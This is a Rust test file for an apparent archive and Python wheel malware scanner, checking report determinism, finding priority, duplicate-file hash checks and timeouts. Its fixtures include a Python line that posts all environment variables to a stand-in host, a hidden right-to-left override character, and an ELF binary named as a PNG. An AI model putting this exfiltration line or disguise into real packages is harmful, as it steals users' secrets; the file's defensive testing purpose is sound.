//! The same archive gives the same report, whoever reads it first and whatever of it is too much; and a late scan gives none.

use std::fmt::Write as _;
use std::io::Cursor;

use super::*;
use crate::archive::making::{Zipped, gz, noise, tgz_of, wheel, zip, zip_of};

const THEFT: &str = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";

/// Files that each name a host of their own and hide something, some much larger than others so that they are done out of order.
fn files(count: usize) -> Vec<Zipped> {
    let file = |at: usize| {
        let words = noise(at as u64, if at.is_multiple_of(7) { 20_000 } else { 900 });
        let theft = THEFT.replace("//c.", &format!("//h{at}."));
        let text = format!("{theft}x = '\u{202e}'\n# {words}\n");
        Zipped::new(&format!("a/m{at:04}.py"), text)
    };
    (0..count).map(file).collect()
}

/// A wheel with more of everything than `BOUNDS` keep: archives in it by name and by content, a path that is there twice.
fn too_much() -> Vec<u8> {
    let mut all = files(300);
    for at in 0..20 {
        let carried = noise(1000 + at, 3_000 + 997 * at as usize);
        let inner = zip_of(&[(&format!("n{at}.py"), THEFT), ("data.txt", &carried)]);
        // One that is named as source text is an archive all the same.
        let name = if at % 2 == 0 { format!("a/n{at:02}.zip") } else { format!("a/n{at:02}.py") };
        all.insert(all.len().min(40 + 11 * at as usize), Zipped::new(&name, inner));
    }
    for text in ["x = 1\n", "import n\n", "x = 2\n"] {
        all.insert(150, Zipped::new("a/twice.py", text));
    }
    let mut record = String::new();
    for file in all.iter().filter(|file| file.name.starts_with(b"a/m") || file.name == b"a/twice.py") {
        let _ = writeln!(record, "{},sha256=AAAA,6", String::from_utf8_lossy(&file.name));
    }
    all.push(Zipped::new("a-1.0.dist-info/RECORD", record));
    zip(&all)
}

fn scanned(bytes: &[u8], bounds: Bounds) -> Result<Report, ScanError> {
    scan_within(&mut Cursor::new(bytes), "a-1.0-py3-none-any.whl", &RuleSet::default(), bounds)
}

#[test]
fn an_archive_with_more_than_is_kept_gives_the_same_report_each_time() {
    let archive = too_much();
    let small = Bounds { nested: 64 * 1024, findings: 60, hosts: 200, ..BOUNDS };
    let first = scanned(&archive, small).unwrap();
    assert_eq!(first.hosts.len(), 200);
    let unopened = first.limits.iter().filter(|met| met.limit == "scan_nested_bytes").count();
    assert!((5..20).contains(&unopened), "{unopened} of 20 were not opened");
    assert_eq!(first.counts.trees, 300 + 20 - unopened, "those that were opened were read");
    let text = serde_json::to_string(&first).unwrap();
    for time in 1..20 {
        assert_eq!(serde_json::to_string(&scanned(&archive, small).unwrap()).unwrap(), text, "time {time}");
    }
}

/// Otherwise whoever puts enough of what weighs little before it hides what weighs much.
#[test]
fn what_is_kept_of_too_many_findings_is_the_gravest() {
    let mut all = files(200);
    all.push(Zipped::new("a/z.py", "x = '\u{202e}'\n"));
    all.push(Zipped::new("a/z.png", b"\x7fELF\x02\x01"));
    let report = scanned(&zip(&all), Bounds { findings: 10, ..BOUNDS }).unwrap();
    assert!(report.findings.iter().any(|finding| finding.rule == "file:binary-hidden"), "{:#?}", report.findings);
}

#[test]
fn a_file_that_is_there_twice_is_held_against_the_list_each_time() {
    let twice = |first: &str, second: &str| {
        let mut record = String::new();
        wheel(&[("a/b.py", "x = 1\n")], |own| record.clone_from(own));
        let all = [
            Zipped::new("a/b.py", first),
            Zipped::new("a/b.py", second),
            Zipped::new("a-1.0.dist-info/RECORD", record),
        ];
        let report = scanned(&zip(&all), BOUNDS).unwrap();
        let of_list = report.findings.iter().filter(|finding| finding.rule.starts_with("wheel:"));
        of_list.map(|finding| finding.rule.to_string()).collect::<Vec<_>>()
    };
    assert_eq!(twice("x = 1\n", "x = 2\n"), ["wheel:record-hash"]);
    assert_eq!(twice("x = 2\n", "x = 1\n"), ["wheel:record-hash"]);
    assert_eq!(twice("x = 1\n", "x = 1\n"), [] as [&str; 0]);
}

#[test]
fn a_scan_that_takes_too_long_ends_and_says_so() {
    let none = Bounds { time: Duration::ZERO, ..BOUNDS };
    let nested = zip(&[Zipped::new("inner.tgz", tgz_of(&[("a/b.py", THEFT)]))]);
    for archive in [zip(&files(300)), tgz_of(&[("a/b.py", THEFT)]), gz(THEFT.as_bytes()), nested] {
        let late = scanned(&archive, none).unwrap_err();
        assert!(matches!(late, ScanError::Late { time: Duration::ZERO, .. }), "{late}");
    }
    let said = ScanError::Late { file: "a.whl".into(), time: SCAN_WORK_TIME }.to_string();
    assert!(said.starts_with("a.whl was not read to its end within 50s"), "{said}");
}
